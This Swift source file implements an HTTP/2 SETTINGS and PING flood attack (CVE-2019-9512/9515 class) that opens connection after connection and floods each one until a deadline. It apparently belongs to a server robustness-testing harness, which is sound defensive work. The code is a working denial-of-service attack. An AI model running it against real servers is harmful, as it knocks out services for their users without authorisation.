import Glibc

/// `settings-flood` / `ping-flood` (CVE-2019-9512/9515 class): control frames that each oblige
/// the server to queue an acknowledgement, sent as fast as possible by a client that never reads.
///
/// Every SETTINGS (resp. PING) must be answered with an ACK; with nobody reading, the ACKs pile
/// up in the server unless it stops the connection (GOAWAY ENHANCE_YOUR_CALM, or a close).
/// After a close the attacker reconnects and floods again until the deadline.
struct ControlFrameFloodAttack: BlockingAttacker {
    /// Which control frame to flood with.
    enum Kind: Sendable { case settings, ping }

    /// The frame kind.
    let kind: Kind

    /// Frames per batch handed to the socket (~6 KiB of SETTINGS, ~7 KiB of PINGs).
    private static let framesPerBatch = 400

    /// Floods connection after connection until the deadline (at most 3,000 connections in short mode).
    func attack(_ context: AttackContext) -> AttackReport {
        var report = AttackReport()
        let maxConnections = context.bound(full: 100_000, short: 3_000)
        let maxFramesPerConnection = context.bound(full: 50_000_000, short: 10_000_000)
        var frames = 0
        var opaque: UInt64 = 0
        while !context.isOver, report.connections.count < maxConnections {
            guard let connection = context.openConnection(recordingFailureIn: &report) else { continue }
            let end = connection.flood(
                until: context.deadline, maxBatches: maxFramesPerConnection / Self.framesPerBatch,
                reading: false
            ) { batch in
                for _ in 0..<Self.framesPerBatch {
                    switch kind {
                    case .settings:
                        // A harmless entry, so the frame is not even empty.
                        H2Frames.appendSettings([(.enablePush, 0)], to: &batch)
                    case .ping:
                        opaque &+= 1
                        H2Frames.appendPing(opaque: opaque, to: &batch)
                    }
                }
                frames += Self.framesPerBatch
                return true
            }
            connection.drain()
            report.record(connection, cut: end == .deadline)
            connection.close()
        }
        report.notes.append("\(frames.grouped) \(kind == .settings ? "SETTINGS" : "PING") frames sent")
        return report
    }
}
